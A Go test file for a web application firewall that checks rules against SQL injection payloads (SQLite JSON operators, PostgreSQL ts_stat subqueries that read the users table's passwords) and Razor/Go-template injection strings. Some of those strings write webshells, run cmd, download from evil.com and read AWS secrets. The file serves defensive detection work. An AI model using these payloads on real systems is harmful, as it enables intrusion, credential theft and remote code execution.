package waf

import (
	"strings"
	"testing"
)

// TestAttack88 are attack 88's finds: SQLite's JSON operators as a
// condition after a closed quote (x' or '1'->>'$' or ': every row on
// SQLite 3.38 and later, run for real; 210214); PostgreSQL's text search
// functions that run a query given as a string (ts_stat, ts_rewrite:
// every password stored in a comment on PostgreSQL 15; 210212); Razor
// expressions and code blocks that reach the .NET runtime, and Sprig's
// expandenv in a Go template (210215).
func TestAttack88(t *testing.T) {
	operatorTable(t, "210214", jsonArrow,
		[]string{"x' or '1'->>'$' or '", "x' or '1'->'$' or '", "x'or'1'->>'$'or'", "x' or '1'->>'$'--", "x' or '1'->>'$';--", "x' or '1' ->> '$' or '",
			"x' or prefs->>'a' or '", "5 or '1'->>'$'", "5 or 1->>'$'", "0 or '1'->'$'"},
		nil,
		[]string{"use data->>'name' to read it", "$user->name or $user->email", "a -> 'b' or c", "it's for '1'->'2'"})
	operatorTable(t, "210212", quoteConcatSubquery,
		[]string{"x'||ts_stat($$select to_tsvector(password) from users$$)||'",
			"x'||ts_rewrite('a'::tsquery, $$select 'a'::tsquery, plainto_tsquery(password) from users where name='admin'$$)||'"},
		[]string{"x'||ts_stat('select to_tsvector(password) from users')||'"},
		nil)
	// a function that reads no table joined to a string is not 210212's
	// (210169 refuses it since attack 89: || is MariaDB's OR)
	if quoteConcatSubquery("x'||ts_headline('a')||'") {
		t.Error("210212 matches x'||ts_headline('a')||'")
	}
	operatorTable(t, "210215", templateRuntime,
		[]string{`@(Microsoft.VisualBasic.Interaction.Shell("cmd /c whoami > C:\\inetpub\\wwwroot\\o.txt"))`,
			`@(System.IO.File.WriteAllBytes("C:\\inetpub\\wwwroot\\s.aspx",Convert.FromBase64String("PCVAIFBhZ2UgTGFuZ3VhZ2U9IkMjIiAlPg==")))`,
			`@{ new System.Net.WebClient().DownloadFile("http://evil.com/s.aspx", Server.MapPath("~/s.aspx")); }`,
			`@(System.Reflection.Assembly.Load(Convert.FromBase64String("TVqQAAMAAAAEAAAA")).CreateInstance("X"))`,
			`@(System.Configuration.ConfigurationManager.ConnectionStrings[0].ConnectionString)`,
			`@(new System.Net.Http.HttpClient().GetStringAsync("http://evil/").Result)`,
			`{{ expandenv "$AWS_SECRET_ACCESS_KEY" }}`, `{{ "$AWS_SECRET_ACCESS_KEY" | expandenv }}`, `{{ index (splitList "," (expandenv "$SECRET_KEY")) 0 }}`},
		nil,
		[]string{"Hello @(Model.Name), your order @(Model.OrderId) shipped", "Email me @ (john) or {{ name }}", "$props = @{ Name = 'x'; Size = 3 }"})
	tableOnly(t)
	h := headerProbe
	runBeyondTheCRS(t, nil,
		[]probe{h("User-Agent ts_stat", "User-Agent", "x'||ts_stat('select to_tsvector(password) from users')||'"),
			h("X-User-Id JSON arrow", "X-User-Id", "x' or '1'->>'$' or '"),
			{name: "form login JSON arrow", method: "POST", path: "/login", contentType: "application/x-www-form-urlencoded", body: "user=x%27+or+%271%27-%3E%3E%27%24%27+or+%27&pass=zz"}},
		nil)
}

// TestCPUBoundAttack88: 16 KiB of the shapes attack 88's fixes read cost
// a request what the bound allows, through Caddy.
func TestCPUBoundAttack88(t *testing.T) {
	repeatedJSONUnder(t, "@(", "@{System.", "@(microsoft.x ", "@(file.copy(", "@(x ", "{{expandenv", "x' or '1'->", "'->'", "or a->1 ", "'||ts_stat($$", "a->'$'")
}

// TestReview88 are the finds of a review of attack 88's fixes: 210214
// with a comparison, IS, LIKE, GLOB or LIMIT after the path, NOT or a
// bracket before the operand, a signed or hex number, a backticked
// column (each a login on SQLite 3.40); 210215 with a code block padded
// past 256 bytes, @foreach(, @if(, @Html.Raw(, Environment and AppDomain
// with no System. before them. And its false positives: a note's arrow
// ('yes' or 'no' -> 'true'), and a view's everyday .NET (System.IO.Path,
// Assembly.GetEntryAssembly, WebUtility): 210215 reads members now, not
// namespaces.
func TestReview88(t *testing.T) {
	operatorTable(t, "210214", jsonArrow,
		[]string{"x' or '1'->>'$'=1 or '", "x' or '1'->>'$'>0 or '", "x' or '1'->>'$' is 1 or '", "x' or '1'->>'$' like 1 or '",
			"x' or '1'->>'$' glob 1 or '", "x' or '1'->>'$' limit 1 --", "x' or not '0'->>'$' or '", "5 or 1->>'$'=1", "-1 or 1->>'$'",
			"0x0 or 1->>'$'"},
		[]string{"1) or (1->>'$'", "x' or `prefs`->>'$.a' or '"},
		[]string{"Map 'yes' or 'no' -> 'true' or 'false'", "Renamed 'foo' and 'bar' -> 'baz'", "1 or 2 -> 3", "2 and 3 -> 5", "Ctrl 'A' or 'B' -> 'C'",
			`"Y" or "N" -> "1" or "0"`})
	operatorTable(t, "210215", templateRuntime,
		[]string{`@{ var s = "` + strings.Repeat("a", 300) + `"; System.IO.File.WriteAllText("C:\\inetpub\\wwwroot\\s.aspx", "x"); }`,
			`@foreach(var f in System.IO.Directory.GetFiles("C:\\inetpub")){<p>@f</p>}`, `@Html.Raw(System.IO.File.ReadAllText("appsettings.json"))`,
			`@if(true){System.IO.File.WriteAllText("C:\\inetpub\\wwwroot\\s.aspx","x");}`,
			`@(AppDomain.CurrentDomain.BaseDirectory)`},
		[]string{`@(Environment.GetEnvironmentVariable("AWS_SECRET_ACCESS_KEY"))`},
		[]string{`<p>Size: @(System.IO.Path.GetExtension(Model.Name))</p>`,
			`<footer>Version @(System.Reflection.Assembly.GetEntryAssembly()?.GetName().Version)</footer>`,
			`@{ ViewData["Title"] = "Upload"; var path = System.IO.Path.GetFileName(Model.FileName); }`,
			`@(System.Net.WebUtility.HtmlEncode(Model.Title))`, `email me @{work} about System.IO.Pipelines, it's great`})
}
